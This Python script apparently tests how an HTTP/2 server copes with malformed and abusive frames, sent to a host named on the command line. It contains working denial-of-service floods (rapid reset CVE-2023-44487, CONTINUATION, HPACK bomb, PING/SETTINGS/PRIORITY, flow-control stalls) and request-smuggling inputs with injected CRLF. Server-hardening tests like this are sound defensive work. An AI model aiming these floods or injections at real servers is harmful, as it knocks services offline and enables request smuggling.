#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Frames of HTTP/2 as no decent client sends them: h2client.py HOST ATTACK [ARG]...
or HOST each ATTACK ARG...: the attack with each of these, on connections of their own.

Prints what came of it, a line each (or by commas): "status ID N", "body ID BYTES", "trailer ID NAME VALUE",
"end ID", "reset ID CODE", "goaway CODE", "closed".  The frames are hyperframe's, headers are packed
by hpack; what is sent is up to the attack."""
import builtins
import socket
import ssl
import sys
import time

from hpack import Decoder, Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
                              WindowUpdateFrame)

HOST = sys.argv[1]
END = ", " if sys.argv[2] == "each" else "\n"


def print(*words):
    builtins.print(*words, end=END, flush=True)


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Gone(Exception):
    pass


class Client:
    first = False

    def __init__(self, settings=None):
        context = ssl.create_default_context()
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection((HOST, 443), timeout=15)
        self.socket = context.wrap_socket(plain, server_hostname=HOST)
        assert self.socket.selected_alpn_protocol() == "h2"
        self.encoder, self.decoder, self.read, self.block = Encoder(), Decoder(), b"", b""
        self.open, self.answered, self.calm = set(), set(), None
        self.window = 65535
        self.socket.sendall(PREFACE)
        self.send(SettingsFrame(0, settings or {}))

    def send(self, *frames):
        try:
            self.socket.sendall(b"".join(f.serialize() for f in frames))
        except (OSError, ssl.SSLError):
            raise Gone from None

    def head(self, stream, fields=(), end=True, **pseudo):
        """A HEADERS frame; pseudo-header fields are the usual ones, or as given, None: left out."""
        usual = {"method": "GET", "scheme": "https", "authority": HOST, "path": "/echo"}
        usual.update(pseudo)
        block = [(":" + k, v) for k, v in usual.items() if v is not None] + list(fields)
        return self.raw(stream, block, end)

    def raw(self, stream, block, end=True):
        flags = ["END_HEADERS"] + (["END_STREAM"] if end else [])
        self.open.add(stream)
        return HeadersFrame(stream, self.encoder.encode(block), flags=flags)

    def more(self):
        try:
            data = self.socket.recv(65536)
        except (OSError, ssl.SSLError):
            raise Gone from None
        if not data:
            raise Gone
        self.read += data

    def frame(self):
        while True:
            if len(self.read) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.read[:9]))
                if len(self.read) >= 9 + length:
                    frame.parse_body(memoryview(self.read[9:9 + length]))
                    self.read = self.read[9 + length:]
                    return frame
            self.more()

    def fields(self, frame):
        """A header block (in one frame: ours are never longer)."""
        for name, value in self.decoder.decode(frame.data):
            if name == ":status":
                print("status", frame.stream_id, value)
            elif not self.first:
                print("trailer", frame.stream_id, name, value)

    def hear(self, frame):
        stream = frame.stream_id
        if isinstance(frame, HeadersFrame):
            self.first = stream not in self.answered
            self.answered.add(stream)
            self.fields(frame)
        elif isinstance(frame, DataFrame):
            print("body", stream, frame.data.decode(errors="replace").strip())
            self.send(WindowUpdateFrame(0, frame.flow_controlled_length or 1))
        elif isinstance(frame, RstStreamFrame):
            print("reset", stream, frame.error_code)
        elif isinstance(frame, GoAwayFrame):
            self.calm = frame.error_code
            print("goaway", frame.error_code)
        if isinstance(frame, RstStreamFrame) or "END_STREAM" in frame.flags:
            self.open.discard(stream)
            if "END_STREAM" in frame.flags:
                print("end", stream)

    def finish(self):
        """Until every stream has ended, or the connection has."""
        while self.open:
            self.hear(self.frame())


def run(attack, *args):
    client = None
    try:
        client = Client(SETTINGS.get(attack.__name__))
        attack(client, *args)
        client.finish()
    except Gone:
        # What had come before the end is still there to be read.
        try:
            while client and client.calm is None:
                client.hear(client.frame())
        except Gone:
            pass
        print("closed")


SETTINGS = {"no_window": {4: 0}}


# --- requests as they should be, and nearly ---

def get(c):
    c.send(c.head(1))


def repeat(c):
    """The same again, until something else comes of it."""
    for i in range(1, 400, 2):
        c.send(c.head(i))
        c.finish()
        if c.calm is not None:
            return
        time.sleep(0.05)


def put(c, length, *pieces):
    """content-length, and DATA of these lengths."""
    fields = [("content-length", length)] if length else []
    c.send(c.head(1, fields, end=not pieces, method="PUT", path="/put/put"))
    for i, n in enumerate(pieces):
        c.send(DataFrame(1, b"x" * int(n), flags=["END_STREAM"] if i == len(pieces) - 1 else []))


def trailers(c, *more):
    c.send(c.head(1, end=False, method="POST"), DataFrame(1, b"body"),
           c.raw(1, [("x-checksum", "1")] + [(name, "mine") for name in more]))


def path(c, name, size=0):
    """POST so many bytes there."""
    c.send(c.head(1, end=False, method="POST", path=name))
    for _ in range(int(size) // 16384):
        c.send(DataFrame(1, b"x" * 16384))
    c.send(DataFrame(1, b"", flags=["END_STREAM"]))


def cookies(c):
    c.send(c.head(1, [("cookie", "a=1"), ("cookie", "b=2"), ("cookie", "c=3")], path="/cookies"))


def authority(c, name, host=""):
    c.send(c.head(1, [("host", host)] if host else [], authority=name or None))


# Each on a connection of its own; none may get to a server.
PSEUDO = {
    "twice": [(":method", "GET"), (":method", "POST"), (":scheme", "https"), (":authority", HOST),
              (":path", "/pseudo")],
    "late": [(":method", "GET"), (":scheme", "https"), (":authority", HOST), ("x", "y"),
             (":path", "/pseudo")],
    "no-path": [(":method", "GET"), (":scheme", "https"), (":authority", HOST)],
    "no-method": [(":scheme", "https"), (":authority", HOST), (":path", "/pseudo")],
    "empty-path": [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", "")],
    "unknown": [(":method", "GET"), (":scheme", "https"), (":authority", HOST),
                (":path", "/pseudo"), (":what", "x")],
    "status": [(":method", "GET"), (":scheme", "https"), (":authority", HOST),
               (":path", "/pseudo"), (":status", "200")],
    "protocol": [(":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "https"),
                 (":authority", HOST), (":path", "/pseudo")],
}
FIELDS = {
    "connect": {"method": "CONNECT", "scheme": None, "path": None},
    "connect-path": {"method": "CONNECT"},
    "trace": {"method": "TRACE"},
    "method": {"method": "GET /pseudo HTTP/1.1\r\nx: y"},
    "path-crlf": {"path": "/pseudo HTTP/1.1\r\nhost: b.example\r\n\r\nGET /pseudo"},
    "path-blank": {"path": "/pseudo x"},
    "path-fragment": {"path": "/pseudo#x"},
    "path-absolute": {"path": "https://b.example/pseudo"},
    "path-star": {"path": "*"},
    "scheme": {"scheme": "http"},
    "userinfo": {"authority": "x@" + HOST},
}
HEADERS = {
    "connection": ("connection", "close"),
    "keep-alive": ("keep-alive", "1"),
    "transfer-encoding": ("transfer-encoding", "chunked"),
    "upgrade": ("upgrade", "websocket"),
    "te": ("te", "gzip"),
    "upper": ("X-Upper", "y"),
    "colon": ("x:y", "z"),
    "blank": ("x y", "z"),
    "value-crlf": ("x", "y\r\nz: y"),
    "value-nul": ("x", "y\0z"),
    "name-empty": ("", "y"),
    "length": ("content-length", "+0"),
    "length-two": ("content-length", "0, 0"),
    "expect": ("expect", "200-ok"),
}


def odd(c, name):
    if name in PSEUDO:
        c.send(c.raw(1, PSEUDO[name]))
    elif name in FIELDS:
        c.send(c.head(1, **{"path": "/pseudo", **FIELDS[name]}))
    else:
        c.send(c.head(1, [HEADERS[name]], path="/pseudo"))


# --- floods ---

def resets(c):
    """Rapid reset: CVE-2023-44487."""
    for i in range(1, 20001, 2):
        c.send(c.head(i, path="/big"), RstStreamFrame(i, 8))
    c.open = {0}


def malformed(c):
    """The same, done by the server."""
    for i in range(1, 20001, 2):
        c.send(c.head(i, [("connection", "close")]))
    c.open = {0}


def continuations(c, size):
    """A header block without end."""
    c.open = {0}
    c.send(HeadersFrame(1, c.encoder.encode([("x", "y" * 100)])))
    for _ in range(100000):
        c.send(ContinuationFrame(1, c.encoder.encode([("x" * int(size), "y")]) if int(size) else b""))


def bomb(c):
    """A field that is one byte on the wire and 4000 unpacked, again and again."""
    c.send(c.head(1, [("x", "y" * 3900)]))
    for i in range(3, 20000, 2):
        head = c.head(i)
        head.data += b"\xbe" * 16000
        c.send(head)
    c.open = {0}


def pings(c):
    for _ in range(100000):
        c.send(PingFrame(0, b"12345678"))
    c.open = {0}


def settings(c):
    for _ in range(100000):
        c.send(SettingsFrame(0, {3: 100}))
    c.open = {0}


def priorities(c):
    for _ in range(100000):
        c.send(PriorityFrame(1, depends_on=3))
    c.open = {0}


def empties(c):
    c.send(c.head(1, end=False, method="PUT", path="/put/empty"))
    for _ in range(100000):
        c.send(DataFrame(1, b""))


def streams(c):
    """More than were granted."""
    for i in range(1, 401, 2):
        c.send(c.head(i, path="/big", end=False, method="POST"))
    while True:
        c.hear(c.frame())


def no_window(c):
    """Large answers that may not be sent: nobody may keep them."""
    for i in range(1, 200, 2):
        c.send(c.head(i, path="/big"))
    while len(c.answered) < 99:
        c.hear(c.frame())
    print("held")
    c.open = {0}


def overflow(c):
    """More than the window has."""
    c.send(c.head(1, end=False, method="POST"))
    for _ in range(1000):
        c.send(DataFrame(1, b"x" * 16384))


def rubbish(c):
    c.socket.sendall(b"\0" * 9 + b"\xff" * 2000)
    c.open = {0}


if sys.argv[2] == "each":
    for arg in sys.argv[4:]:
        builtins.print(arg + ":", end=" ")
        run(globals()[sys.argv[3]], *arg.split())
        builtins.print(".")
else:
    run(globals()[sys.argv[2]], *sys.argv[3:])
